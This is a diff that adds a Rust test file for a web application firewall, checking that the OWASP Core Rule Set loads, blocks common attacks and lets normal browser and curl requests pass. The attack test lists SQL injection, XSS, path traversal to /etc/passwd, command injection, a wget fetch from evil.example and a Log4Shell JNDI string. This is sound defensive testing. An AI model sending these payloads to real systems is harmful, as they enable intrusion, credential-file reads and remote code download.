@@ -1,0 +1,136 @@
+//! Debian's Core Rule Set 3.3: all of it loads, plain attacks are refused, plain requests pass.
+
+use crate::{get, run};
+use bastide_waf::{Files, Mode, RuleSet, Settings, Source, Verdict};
+use std::{
+    fs,
+    path::Path,
+    sync::{Arc, OnceLock},
+};
+
+const SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";
+const RULES: &str = "/usr/share/modsecurity-crs/rules";
+
+struct Beside;
+
+impl Files for Beside {
+    fn read(&self, from: &str, path: &str) -> Result<Vec<u8>, String> {
+        fs::read(Path::new(from).parent().unwrap().join(path)).map_err(|error| error.to_string())
+    }
+    fn expand(&self, _: &str, _: &str) -> Result<Vec<String>, String> {
+        Ok(Vec::new())
+    }
+}
+
+fn compile(mode: Mode) -> Arc<RuleSet> {
+    assert!(Path::new(RULES).exists(), "the package modsecurity-crs is missing: ./test installs it");
+    let mut paths: Vec<_> = fs::read_dir(RULES).unwrap().map(|entry| entry.unwrap().path()).collect();
+    paths.retain(|path| path.extension().is_some_and(|extension| extension == "conf"));
+    paths.sort();
+    paths.insert(0, SETUP.into());
+    let sources: Vec<_> = paths
+        .iter()
+        .map(|path| Source { name: path.display().to_string(), bytes: fs::read(path).unwrap() })
+        .collect();
+    let settings = Settings { mode, ..Settings::default() };
+    match RuleSet::compile(&sources, &Beside, &settings) {
+        Ok(set) => Arc::new(set),
+        Err(error) => panic!("{error}"),
+    }
+}
+
+fn blocking() -> &'static Arc<RuleSet> {
+    static SET: OnceLock<Arc<RuleSet>> = OnceLock::new();
+    SET.get_or_init(|| compile(Mode::Block))
+}
+
+const BROWSER: &[(&str, &str)] = &[
+    ("Host", "demo.apps.localhost:8443"),
+    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
+    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
+    ("Accept-Language", "en-US,en;q=0.5"),
+    ("Accept-Encoding", "gzip, deflate, br"),
+    ("Cookie", "session=abc123; theme=dark"),
+];
+const CURL: &[(&str, &str)] =
+    &[("Host", "demo--development.apps.localhost:8443"), ("User-Agent", "curl/7.88.1"), ("Accept", "*/*")];
+
+#[test]
+fn all_rules_load() {
+    assert!(blocking().rules() > 500, "{}", blocking().rules());
+}
+
+#[test]
+fn plain_attacks_are_refused() {
+    for target in [
+        "/?id=1%27%20or%201=1--",
+        "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/?q=<script>alert(1)</script>",
+        "/?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
+        "/../../etc/passwd",
+        "/?f=../../../../etc/passwd",
+        "/?f=..%2f..%2f..%2fetc%2fpasswd",
+        "/?c=;cat%20/etc/passwd",
+        "/?c=$(id)",
+        "/?c=%7C%7C%20wget%20http://evil.example/x.sh",
+        "/?f=php://input",
+        "/?x=%24%7Bjndi%3Aldap%3A//evil.example/a%7D",
+        "/.git/config",
+    ] {
+        let (verdict, ids) = get(blocking(), target, BROWSER);
+        assert!(matches!(verdict, Verdict::Block { status: 403, .. }), "{target} passed; matched {ids:?}");
+    }
+    let scanner = [("Host", "a"), ("User-Agent", "sqlmap/1.5"), ("Accept", "*/*")];
+    assert_ne!(get(blocking(), "/", &scanner).0, Verdict::Pass);
+    let form = [BROWSER, &[("Content-Type", "application/x-www-form-urlencoded")]].concat();
+    assert_ne!(
+        run(blocking(), "POST", "/login", &form, b"user=admin'--&password=' or ''='").0,
+        Verdict::Pass
+    );
+    let json = [BROWSER, &[("Content-Type", "application/json")]].concat();
+    assert_ne!(
+        run(blocking(), "POST", "/api", &json, br#"{"q":"1' UNION SELECT user, password FROM users--"}"#).0,
+        Verdict::Pass
+    );
+}
+
+#[test]
+fn plain_requests_pass() {
+    for headers in [BROWSER, CURL] {
+        for target in [
+            "/",
+            "/hello/",
+            "/hello/me",
+            "/site/css/site.css",
+            "/?page=2&sort=name",
+            "/search?q=hello+world",
+            "/a%20b/c.html",
+            "/api/apps/hello",
+            "/x?email=ann%40example.com&when=2026-11-24T10:00:00Z",
+        ] {
+            let (verdict, ids) = get(blocking(), target, headers);
+            assert_eq!(verdict, Verdict::Pass, "{target} {ids:?}");
+        }
+    }
+    let post = |kind: &'static str, body: &str| {
+        let length = body.len().to_string();
+        let headers = [BROWSER, &[("Content-Type", kind), ("Content-Length", &length)]].concat();
+        let (verdict, ids) = run(blocking(), "POST", "/identity/login", &headers, body.as_bytes());
+        assert_eq!(verdict, Verdict::Pass, "{kind} {body} {ids:?}");
+    };
+    post("application/x-www-form-urlencoded", "email=ann%40example.com&password=Correct-horse-9");
+    post(
+        "application/json",
+        r#"{"name":"acme","administrator_email":"ann@example.com","note":"hello there"}"#,
+    );
+    post("application/json", r#"{"stage":"test"}"#);
+}
+
+#[test]
+fn detect_tells_what_block_refuses() {
+    let detecting = compile(Mode::Detect);
+    let (verdict, ids) = get(&detecting, "/?id=1%27%20or%201=1--", BROWSER);
+    assert_eq!(verdict, Verdict::Pass);
+    assert!(ids.contains(&942_100), "{ids:?}");
+}
